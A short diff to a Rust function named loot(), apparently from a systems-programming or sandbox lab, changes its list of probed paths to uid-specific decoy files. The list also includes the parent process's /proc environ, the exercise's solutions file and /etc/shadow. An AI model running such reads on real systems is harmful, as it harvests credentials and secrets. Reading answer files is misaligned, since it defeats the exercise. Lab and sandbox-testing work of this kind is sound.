@@ -14,7 +14,9 @@ fn loot() -> String {
     }
     let parent = std::os::unix::process::parent_id();
     for path in [
-        "/tmp/mmap-lab-decoy".to_owned(),
+        // SAFETY: getuid only reads this process's credentials.
+        format!("/tmp/mmap-lab-decoy-{}", unsafe { nix::libc::getuid() }),
+        "/tmp/mmap-lab-decoy-0".to_owned(),
         format!("/proc/{parent}/environ"),
         concat!(env!("CARGO_MANIFEST_DIR"), "/../../solutions/ex1/src/exercise.rs").to_owned(),
         "/etc/shadow".to_owned(),
